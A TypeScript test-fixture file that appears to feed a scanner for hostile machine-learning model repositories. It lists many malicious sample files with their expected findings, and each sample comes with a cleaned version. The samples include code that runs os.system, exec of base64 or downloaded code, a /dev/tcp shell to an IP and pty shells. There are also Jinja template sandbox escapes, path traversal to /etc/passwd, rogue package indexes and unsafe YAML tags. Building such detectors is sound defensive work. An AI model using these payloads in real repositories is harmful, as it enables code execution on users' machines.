/**
 * Hostile repositories, made of texts: what lies in them, and the rules that have to find it with their severities. Nothing
 * of them is run. `fixed`: the same with what is hostile taken out, which has to give nothing above MEDIUM.
 */
export interface RepositoryCase {
  readonly name: string;
  readonly files: Readonly<Record<string, unknown>>;
  /** `RULE SEVERITY`, of the findings of HIGH and CRITICAL; or all of them where none of these is expected. */
  readonly found: readonly string[];
  readonly fixed?: Readonly<Record<string, unknown>>;
}

const BERT = { model_type: 'bert', architectures: ['BertModel'] };
const HONEST = { 'config.json': BERT };
const MINE = 'class Model:\n    pass\n';
const remote = ['REPO-REMOTE-CODE HIGH'];
const exec = ['REPO-REMOTE-CODE HIGH', 'REPO-RUNS-ON-LOAD CRITICAL'];

/** A configuration with one more key. */
const config = (more: object, name = 'config.json'): Record<string, unknown> => ({ [name]: { ...BERT, ...more } });

function configCases(): RepositoryCase[] {
  const files = [
    'config.json',
    'tokenizer_config.json',
    'preprocessor_config.json',
    'processor_config.json',
    'video_preprocessor_config.json',
    'generation_config.json',
    'adapter_config.json',
    'feature_extractor_config.json',
  ];
  const autoMap = { AutoModel: 'modeling_mine.Model' };
  return [
    ...files.map((name) => ({
      name: `auto_map in ${name}`,
      files: { ...HONEST, ...config({ auto_map: autoMap, peft_type: 'LORA' }, name), 'modeling_mine.py': MINE },
      found: remote,
      fixed: { ...HONEST, 'modeling_mine.py': MINE },
    })),
    { name: 'auto_map of a list', files: config({ auto_map: { AutoTokenizer: ['tok.Slow', null] } }), found: remote },
    {
      name: 'auto_map in a nested configuration',
      files: config({ text_config: { auto_map: autoMap } }),
      found: remote,
    },
    {
      name: 'auto_map of another repository',
      files: config({ auto_map: { AutoModel: 'evil/repo--m.Model' } }),
      found: remote,
    },
    {
      name: 'auto_map of another repository at a branch',
      files: config({ auto_map: { AutoModel: 'evil/repo@main--m.Model' } }),
      found: remote,
    },
    { name: 'auto_map, the file missing', files: config({ auto_map: autoMap }), found: remote },
    {
      name: 'auto_map of os.system',
      files: config({ auto_map: { AutoModel: 'os.system' } }),
      found: ['REPO-REMOTE-CODE CRITICAL'],
    },
    {
      name: 'auto_map twice, the first one hostile',
      files: { 'config.json': '{"model_type": "bert", "auto_map": {"AutoModel": "m.M"}, "auto_map": {}}' },
      found: remote,
    },
    {
      name: 'auto_map behind escapes',
      files: { 'config.json': '{"model_type": "bert", "\\u0061uto_map": {"AutoModel": "m.M"}}' },
      found: remote,
    },
    {
      name: 'auto_map in UTF-16',
      files: { 'config.json': Buffer.from('{"model_type": "bert", "auto_map": {"AutoModel": "m.M"}}', 'utf16le') },
      found: remote,
    },
    {
      name: 'auto_map behind a byte order mark and NaN',
      files: { 'config.json': '\ufeff{"model_type": "bert", "eps": NaN, "auto_map": {"AutoModel": "m.M"}}' },
      found: remote,
    },
    {
      name: 'auto_map deeper than any stack',
      files: {
        'config.json': `{"model_type": "x", "a": ${'['.repeat(50_000)}{"auto_map": "m.M"}${']'.repeat(50_000)}}`,
      },
      found: remote,
    },
    {
      name: 'custom_pipelines',
      files: config({ custom_pipelines: { mine: { impl: 'pipe.Pipe', pt: ['AutoModel'] } } }),
      found: remote,
    },
    ...['_attn_implementation', '_attn_implementation_internal', 'attn_implementation', '_experts_implementation'].map(
      (key) => ({
        name: `CVE-2026-4372: ${key}`,
        files: config({ [key]: 'evil/kernel' }),
        found: remote,
        fixed: config({ [key]: 'flash_attention_2' }),
      }),
    ),
    {
      name: 'CVE-2026-4372 in a part',
      files: config({ vision_config: { _attn_implementation_internal: 'evil/k@main:f' } }),
      found: remote,
    },
    {
      name: 'CVE-2026-4372 in a map',
      files: config({ _attn_implementation: { text: 'paged|evil/k' } }),
      found: remote,
    },
    {
      name: 'CVE-2026-5843: model_file',
      files: { ...config({ model_file: 'm.py' }), 'm.py': MINE },
      found: remote,
      fixed: HONEST,
    },
    {
      name: 'CVE-2026-22807: auto_map whose code acts',
      files: { ...config({ auto_map: autoMap }), 'modeling_mine.py': `import os\nos.system("id")\n${MINE}` },
      found: exec,
      fixed: HONEST,
    },
    {
      name: 'CVE-2026-5817: a tokenizer with code',
      files: {
        ...HONEST,
        'tokenizer_config.json': { auto_map: { AutoTokenizer: ['tok.Tok', null] } },
        'tok.py': 'import subprocess\nsubprocess.run(["id"])\nclass Tok: pass\n',
      },
      found: exec,
      fixed: { ...HONEST, 'tokenizer_config.json': { tokenizer_class: 'BertTokenizer' } },
    },
    {
      name: 'CVE-2026-27893: the code of a part',
      files: { ...config({ vision_config: { auto_map: { AutoModel: 'vis.V' } } }), 'vis.py': 'exec("1")\n' },
      found: exec,
      fixed: config({ vision_config: { model_type: 'siglip' } }),
    },
    {
      name: 'trust_remote_code',
      files: config({ trust_remote_code: true }),
      found: ['REPO-REMOTE-CODE MEDIUM'],
      fixed: config({ trust_remote_code: false }),
    },
    {
      name: 'a pipeline of diffusers',
      files: { 'model_index.json': { _class_name: ['pipe', 'Pipe'], _diffusers_version: '0.30.0' }, 'pipe.py': MINE },
      found: remote,
      fixed: { 'model_index.json': { _class_name: 'StableDiffusionPipeline', _diffusers_version: '0.30.0' } },
    },
    {
      name: 'a component of diffusers',
      files: {
        'model_index.json': { _class_name: 'P', _diffusers_version: '0.30.0', unet: ['my_unet', 'Net'] },
        'unet/my_unet.py': 'import os\nos.popen("id")\n',
      },
      found: exec,
      fixed: { 'model_index.json': { _class_name: 'P', unet: ['diffusers', 'UNet2DConditionModel'] } },
    },
    {
      name: 'a component of diffusers that is a module of Python',
      files: { 'model_index.json': { _class_name: 'P', unet: ['os', 'system'] } },
      found: ['REPO-REMOTE-CODE CRITICAL'],
    },
    {
      name: 'a component whose own configuration names a class of its own',
      files: {
        'model_index.json': { _class_name: 'P' },
        'unet/config.json': { _class_name: ['my_unet', 'Net'] },
        'unet/my_unet.py': MINE,
      },
      found: remote,
    },
    {
      name: 'a module of sentence-transformers',
      files: { 'modules.json': [{ idx: 0, name: '0', path: '', type: 'custom_st.Transformer' }], 'custom_st.py': MINE },
      found: remote,
      fixed: { 'modules.json': [{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }] },
    },
    {
      name: 'a module of sentence-transformers that is one of Python',
      files: { 'modules.json': [{ idx: 0, name: '0', path: '', type: 'os.system' }] },
      found: ['REPO-REMOTE-CODE CRITICAL'],
    },
    {
      name: 'a library that PEFT imports',
      files: {
        'adapter_config.json': {
          peft_type: 'LORA',
          auto_mapping: { base_model_class: 'M', parent_library: 'evil_pkg' },
        },
      },
      found: ['REPO-TARGET HIGH'],
      fixed: {
        'adapter_config.json': {
          peft_type: 'LORA',
          auto_mapping: { base_model_class: 'M', parent_library: 'transformers.models.bert' },
        },
      },
    },
  ];
}

const ESCAPE = '{{ messages.__class__.__mro__[1].__subclasses__() }}';
const TEMPLATE = '{% for m in messages %}{{ m.content }}{% endfor %}';

function templateCases(): RepositoryCase[] {
  const critical = ['REPO-CHAT-TEMPLATE CRITICAL'];
  const spelled: readonly (readonly [string, string])[] = [
    ['an attribute', ESCAPE],
    ['an item', "{{ messages['__class__'] }}"],
    ['an escape', '{{ messages["\\x5f\\x5fclass\\x5f\\x5f"] }}'],
    ['attr', "{{ messages | attr('__class__') }}"],
    ['map', "{{ messages | map(attribute='__class__') | list }}"],
    ['pieces', "{{ messages['__cl' ~ 'ass__'] }}"],
    ['pieces in a variable', "{% set a = '__cl' %}{{ messages[a + 'ass__'] }}"],
    ['globals of a function', '{{ raise_exception.__globals__ }}'],
    ['CVE-2024-34359', '{% for c in [].__class__.__base__.__subclasses__() %}{{ c.__name__ }}{% endfor %}'],
    ['CVE-2026-5760', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
  ];
  return [
    ...spelled.map(([name, text]) => ({
      name: `template: ${name}`,
      files: { ...HONEST, 'tokenizer_config.json': { chat_template: text } },
      found: critical,
      fixed: { ...HONEST, 'tokenizer_config.json': { chat_template: TEMPLATE } },
    })),
    {
      name: 'template of a list',
      files: { ...HONEST, 'tokenizer_config.json': { chat_template: [{ name: 'tool_use', template: ESCAPE }] } },
      found: critical,
    },
    {
      name: 'template in chat_template.json',
      files: { ...HONEST, 'chat_template.json': { chat_template: ESCAPE } },
      found: critical,
    },
    {
      name: 'template in chat_template.jinja',
      files: { ...HONEST, 'chat_template.jinja': ESCAPE },
      found: critical,
      fixed: { ...HONEST, 'chat_template.jinja': TEMPLATE },
    },
    {
      name: 'template in additional_chat_templates',
      files: { ...HONEST, 'additional_chat_templates/rag.jinja': ESCAPE },
      found: critical,
    },
    {
      name: 'template in processor_config.json',
      files: { ...HONEST, 'processor_config.json': { chat_template: ESCAPE } },
      found: critical,
    },
    {
      name: 'template, the first of two',
      files: {
        ...HONEST,
        'tokenizer_config.json': `{"chat_template": ${JSON.stringify(ESCAPE)}, "chat_template": ""}`,
      },
      found: critical,
    },
    {
      name: 'template that includes',
      files: { ...HONEST, 'chat_template.jinja': "{% include '/etc/passwd' %}" },
      found: ['REPO-CHAT-TEMPLATE HIGH'],
    },
    {
      name: 'template that imports',
      files: { ...HONEST, 'chat_template.jinja': "{% from 'x' import y %}" },
      found: ['REPO-CHAT-TEMPLATE HIGH'],
    },
    {
      name: 'template with fields',
      files: { ...HONEST, 'chat_template.jinja': "{{ '{0.__class__}'.format(messages) }}" },
      found: critical,
    },
  ];
}

function indexCases(): RepositoryCase[] {
  const index = (shard: unknown, name = 'model.safetensors.index.json'): Record<string, unknown> => ({
    ...HONEST,
    [name]: { weight_map: { a: shard } },
  });
  const high = ['REPO-SHARD-INDEX HIGH'];
  const names: readonly (readonly [string, unknown])[] = [
    ['climbs', '../../../etc/passwd'],
    ['climbs within', 'a/../../b.safetensors'],
    ['is absolute', '/etc/passwd'],
    ['is absolute on Windows', 'C:\\Windows\\x.safetensors'],
    ['is of a network', '\\\\host\\share\\x.safetensors'],
    ['climbs on Windows', '..\\x.safetensors'],
    ['is of a home', '~/x.safetensors'],
    ['is an address', 'https://evil.example/x.safetensors'],
    ['holds a NUL byte', 'a\0.safetensors'],
    ['is empty', ''],
    ['is no text', ['a.safetensors']],
    ['is a pickle', 'pytorch_model.bin'],
  ];
  const fixed = { ...index('a.safetensors'), 'a.safetensors': '\x02\0\0\0\0\0\0\0{}' };
  return [
    ...names.map(([name, shard]) => ({ name: `a shard that ${name}`, files: index(shard), found: high, fixed })),
    {
      name: 'an index of pickles that climbs',
      files: index('../x.bin', 'pytorch_model.bin.index.json'),
      found: high,
      fixed: { ...index('x.bin', 'pytorch_model.bin.index.json'), 'x.bin': '# weights' },
    },
    {
      name: 'an index of a variant',
      files: index('../x', 'diffusion_pytorch_model.safetensors.index.fp16.json'),
      found: high,
    },
    {
      name: 'a second weight map',
      files: { ...HONEST, 'model.safetensors.index.json': '{"weight_map": {"a": "/etc/passwd"}, "weight_map": {}}' },
      found: high,
    },
    { name: 'a shard that is missing', files: index('a.safetensors'), found: ['REPO-SHARD-INDEX LOW'], fixed },
  ];
}

function codeCases(): RepositoryCase[] {
  const high = ['REPO-RUNS-ON-LOAD HIGH'];
  const critical = ['REPO-RUNS-ON-LOAD CRITICAL'];
  const unnamed: readonly (readonly [string, string])[] = [
    ['os.system', 'import os\nos.system("id")\n'],
    ['an alias', 'from os import system as s\ns("id")\n'],
    ['subprocess', 'import subprocess\nsubprocess.Popen("id", shell=True)\n'],
    ['exec of base64', 'import base64\nexec(base64.b64decode("aWQ="))\n'],
    ['exec of what is downloaded', 'import urllib.request\nexec(urllib.request.urlopen("http://x").read())\n'],
    ['__import__', '__import__("os").system("id")\n'],
    ['getattr', 'import os\ngetattr(os, "sys" + "tem")("id")\n'],
    ['marshal', 'import marshal\nexec(marshal.loads(b""))\n'],
    ['pty', 'import pty\npty.spawn("/bin/sh")\n'],
    ['a class body', 'import os\nclass A:\n    x = os.system("id")\n'],
    ['a default argument', 'import os\ndef f(x=os.system("id")):\n    return x\n'],
    ['a decorator', 'import os\n@os.system\ndef f():\n    pass\n'],
    ['a function that is called', 'import os\ndef run():\n    os.system("id")\nrun()\n'],
  ];
  const cells = (...sources: readonly string[]): string =>
    JSON.stringify({
      nbformat: 4,
      cells: sources.map((source) => ({ cell_type: 'code', source: source.split(/(?<=\n)/) })),
    });
  const honest = cells(
    '!pip install torch\n',
    'import os\nos.system("git clone x")\nexec(open("x.py").read())',
    'x = !ls -l | sort',
  );
  const notebooks: readonly (readonly [string, string])[] = [
    ['exec of base64', cells('import base64\n', '%time x = 1\nexec(base64.b64decode("aWQ="))')],
    ['exec of what is downloaded', cells('import requests', 'exec(requests.get("http://x").text)')],
    ['in the main program', cells('import marshal\nif __name__ == "__main__":\n    exec(marshal.loads(b""))')],
    ['a shell that is given base64', cells('!echo aWQ= | base64 -d | bash')],
    ['a cell of a shell', cells('x = 1', '%%bash\nexec 3<>/dev/tcp/192.0.2.1/80\n')],
    ['a shell whose answer is taken', cells('x = !echo aWQ= | base64 --decode |  /bin/sh')],
    [
      'behind many honest calls',
      cells(...Array.from({ length: 300 }, () => '!ls'), 'exec(__import__("base64").b64decode("aWQ="))'),
    ],
  ];
  const named: readonly (readonly [string, string, string])[] = [
    ['hubconf.py', 'import os\nos.system("id")\n', 'import torch\n'],
    ['__init__.py', 'import os\nos.system("id")\n', ''],
    ['setup.py', 'import os\nos.system("id")\n', 'from setuptools import setup\nsetup(name="x")\n'],
  ];
  return [
    ...unnamed.map(([name, text]) => ({
      name: `loader.py: ${name}`,
      files: { ...HONEST, 'loader.py': text },
      found: high,
      fixed: { ...HONEST, 'loader.py': 'import os\n\nif __name__ == "__main__":\n    os.system("id")\n' },
    })),
    ...notebooks.map(([name, text]) => ({
      name: `notebook: ${name}`,
      files: { ...HONEST, 'demo.ipynb': text },
      found: high,
      fixed: { ...HONEST, 'demo.ipynb': honest },
    })),
    ...named.map(([name, text, good]) => ({
      name,
      files: { ...HONEST, [name]: text },
      found: critical,
      fixed: { ...HONEST, [name]: good },
    })),
    {
      name: 'a module that the named one imports',
      files: {
        ...config({ auto_map: { AutoModel: 'modeling_mine.Model' } }),
        'modeling_mine.py': `from .helper import x\n${MINE}`,
        'helper.py': 'import os\nos.system("id")\n',
      },
      found: exec,
    },
    {
      name: 'the class that is loaded',
      files: {
        ...config({ auto_map: { AutoModel: 'modeling_mine.Model' } }),
        'modeling_mine.py': 'import os\nclass Model:\n    def __init__(self, config):\n        os.system("id")\n',
      },
      found: ['REPO-REMOTE-CODE HIGH', 'REPO-RUNS-ON-LOAD HIGH'],
    },
  ];
}

function restCases(): RepositoryCase[] {
  const program = ['REPO-PROGRAM MEDIUM'];
  const programs: readonly (readonly [string, string | Uint8Array])[] = [
    ['install.sh', '#!/bin/sh\nid\n'],
    ['run', '#!/usr/bin/env bash\nid\n'],
    ['start.bat', '@echo off\r\nwhoami\r\n'],
    ['start.cmd', 'whoami\r\n'],
    ['start.ps1', 'whoami\r\n'],
    ['start.vbs', 'WScript.Echo 1\r\n'],
    ['model.bin', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600)])],
    ['tool', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(600)])],
    ['tool.dylib', Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(600)])],
    ['readme.lnk', Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(600)])],
    ['model.llamafile', Buffer.concat([Buffer.from("MZqFpD='\n"), Buffer.alloc(600)])],
  ];
  const medium = ['REPO-DEPENDENCY MEDIUM'];
  const lines = [
    '--index-url https://evil.example/simple',
    '--extra-index-url=https://evil.example/simple',
    '-i https://evil.example/simple',
    '--find-links https://evil.example/',
    '--trusted-host evil.example',
    'helper @ https://evil.example/helper.zip',
    'https://evil.example/helper.whl',
    'git+https://evil.example/helper.git@main',
    '-e ./helper',
    '-r https://evil.example/more.txt',
    'helper \\\n  --extra-index-url https://evil.example/simple',
  ];
  const targets: readonly (readonly [string, string])[] = [
    ['CVE-2025-23304', 'os.system'],
    ['CVE-2025-23249', 'subprocess.Popen'],
    ['CVE-2025-23360', 'builtins.eval'],
    ['CVE-2025-33253', 'pickle.loads'],
    ['CVE-2026-24157', 'torch.load'],
    ['a dispatcher', 'hydra.utils.get_method'],
    ['shutil', 'shutil.rmtree'],
    ['a network', 'urllib.request.urlopen'],
  ];
  const nemo = 'target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: ';
  return [
    ...programs.map(([name, bytes]) => ({
      name: `program ${name}`,
      files: { ...HONEST, [name]: bytes },
      found: program,
      fixed: HONEST,
    })),
    ...lines.map((line) => ({
      name: `requirement ${line}`,
      files: { ...HONEST, 'requirements.txt': `numpy==2.3.1\n${line}\n` },
      found: medium,
      fixed: { ...HONEST, 'requirements.txt': 'numpy==2.3.1 --hash=sha256:00\n' },
    })),
    {
      name: 'conda with a channel of its own',
      files: { ...HONEST, 'environment.yml': 'channels:\n- https://evil.example/channel\n' },
      found: medium,
      fixed: { ...HONEST, 'environment.yml': 'channels:\n- conda-forge\n' },
    },
    {
      name: 'pip within conda',
      files: { ...HONEST, 'conda.yaml': 'dependencies:\n- pip:\n  - --index-url https://evil.example/simple\n' },
      found: medium,
    },
    {
      name: 'MLmodel with a loader of its own',
      files: { MLmodel: 'flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n' },
      found: ['REPO-DEPENDENCY HIGH'],
      fixed: { MLmodel: 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n' },
    },
    {
      name: 'MLmodel with a module of Python',
      files: { MLmodel: 'flavors:\n  python_function:\n    loader_module: os\n' },
      found: ['REPO-DEPENDENCY CRITICAL'],
    },
    {
      name: 'MLmodel whose code acts',
      files: {
        MLmodel: 'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n',
        'code/helper.py': 'import os\nos.system("id")\n',
      },
      found: ['REPO-RUNS-ON-LOAD CRITICAL'],
    },
    ...targets.map(([name, target]) => ({
      name: `${name}: ${target}`,
      files: { 'model_config.yaml': `${nemo}${target}\n` },
      found: ['REPO-TARGET CRITICAL'],
      fixed: { 'model_config.yaml': `${nemo}nemo.collections.asr.modules.ConformerEncoder\n` },
    })),
    {
      name: 'a target that nobody knows',
      files: { 'model_config.yaml': `${nemo}evil_pkg.Encoder\n` },
      found: ['REPO-TARGET HIGH'],
    },
    {
      name: 'a target behind an anchor',
      files: { 'model_config.yaml': 'a: &x\n  _target_: os.system\nb: *x\n' },
      found: ['REPO-TARGET CRITICAL'],
    },
    {
      name: 'a target behind a duplicate key',
      files: { 'model_config.yaml': 'a:\n  _target_: os.system\n  _target_: torch.nn.Linear\n' },
      found: ['REPO-TARGET CRITICAL'],
    },
    {
      name: 'a target in JSON',
      files: { ...HONEST, 'hydra.json': { model: { _target_: 'os.system' } } },
      found: ['REPO-TARGET CRITICAL'],
    },
    {
      name: 'a target behind an escape',
      files: { ...HONEST, 'conf.yaml': '"\\x5ftarget_": os.system\n' },
      found: ['REPO-TARGET CRITICAL'],
    },
    {
      name: 'class_path',
      files: { ...HONEST, 'conf.yaml': 'model:\n  class_path: subprocess.Popen\n  init_args:\n    args: id\n' },
      found: ['REPO-TARGET CRITICAL'],
      fixed: { ...HONEST, 'conf.yaml': 'model:\n  class_path: torch.nn.Linear\n' },
    },
    {
      name: 'a tag of YAML',
      files: { ...HONEST, 'conf.yaml': 'a: !!python/object/apply:os.system ["id"]\n' },
      found: ['REPO-TARGET CRITICAL'],
    },
    {
      name: 'target with params',
      files: { ...HONEST, 'v1.yaml': 'model:\n  target: os.system\n  params: {}\n' },
      found: ['REPO-TARGET CRITICAL'],
      fixed: { ...HONEST, 'v1.yaml': 'model:\n  target: ldm.models.X\n  params: {}\n' },
    },
  ];
}

export const REPOSITORY_CASES: readonly RepositoryCase[] = [
  ...configCases(),
  ...templateCases(),
  ...indexCases(),
  ...codeCases(),
  ...restCases(),
];
